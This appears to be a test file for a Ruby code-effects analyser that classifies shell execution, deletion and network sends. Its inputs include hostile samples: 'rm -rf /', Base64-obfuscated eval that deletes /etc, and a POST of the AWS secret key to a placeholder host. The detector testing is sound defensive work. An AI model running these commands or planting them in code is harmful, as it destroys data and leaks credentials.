// Shared behaviour (command lines, paths, reverse shells, everyday code): ../producers.test.ts.
import { describe, expect, it } from 'vitest';
import { effectsOf, of } from '../../../../test/support/code-effects.js';

const rb = effectsOf('ruby');

describe('ruby producer', () => {
  it('states one string as a shell line and several as an argv', () => {
    expect(of(rb('system("rm -rf /")'), 'exec')[0]).toMatchObject({ program: 'sh', code: 'rm -rf /' });
    expect(of(rb('system "rm", "-rf", "/"'), 'exec')[0]).toMatchObject({ program: 'rm', argv: ['rm', '-rf', '/'] });
  });

  it('runs eval of decoded code through the same producer', () => {
    const effects = rb('require "base64"; eval(Base64.decode64("RmlsZVV0aWxzLnJtX3JmKCIvZXRjIik="))');
    expect(of(effects, 'exec')[0]).toMatchObject({ language: 'ruby', origin: 'decoded' });
    expect(of(effects, 'delete')[0]).toMatchObject({ recursive: true, path: { path: '/etc' } });
  });

  it('states HTTP sends with env sources', () => {
    const send = rb('require "net/http"; Net::HTTP.post(URI("https://x.example/c"), ENV["AWS_SECRET_ACCESS_KEY"])');
    expect(of(send, 'send')[0]).toMatchObject({ sink: 'https://x.example/c', sources: ['env:AWS_SECRET_ACCESS_KEY'] });
  });
});
